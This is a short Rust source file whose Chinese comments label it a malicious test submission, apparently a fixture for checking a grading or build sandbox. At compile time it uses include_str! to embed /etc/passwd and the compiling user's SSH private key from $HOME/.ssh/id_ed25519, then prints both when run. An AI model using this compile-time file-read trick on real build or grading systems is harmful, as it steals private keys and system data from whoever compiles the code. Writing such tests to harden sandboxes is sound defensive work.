//! 恶意提交(测试用):编译的时候读提交以外的文件,编进程序里,运行时打印出来。
//! 一个是系统文件,一个是「老师家目录」里的私钥(HOME 在编译时的值)。

const PASSWD: &str = include_str!("/etc/passwd");
const KEY: &str = include_str!(concat!(env!("HOME"), "/.ssh/id_ed25519"));

fn main() {
    println!("{PASSWD}\n{KEY}");
}
